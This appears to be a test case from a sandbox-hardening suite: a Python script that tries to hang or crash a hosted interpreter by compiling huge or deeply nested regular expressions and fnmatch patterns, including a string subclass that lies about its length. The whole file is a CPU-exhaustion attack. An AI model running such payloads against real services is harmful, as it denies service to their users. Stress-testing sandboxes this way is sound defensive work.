# technique: regular expressions that are compiled for long: millions of characters, thousands of groups in each other
# source: own
# goal: seconds in which nothing stops the guest; an error of the runtime's own
# impact: dos
# dos: cpu
import fnmatch
import re


class Text(str):
    def __len__(self):
        return 1

    def count(self, *_):
        return 0


patterns = ['a' * 10 ** 6, '(?:' * 3000 + 'a' + '){2}' * 3000, b'(' * 10 ** 5, Text('(?:' * 3000 + 'a' + '){2}' * 3000)]
attempts = [lambda p=p: re.compile(p) for p in patterns]
attempts += [lambda: re.sub('|'.join(map(str, range(10 ** 5))), '', 'a'), lambda: fnmatch.fnmatch('a', '[a]' * 10 ** 6)]
for number, attempt in enumerate(attempts):
    try:
        attempt()
        escaped(number)
    except MemoryError:
        pass
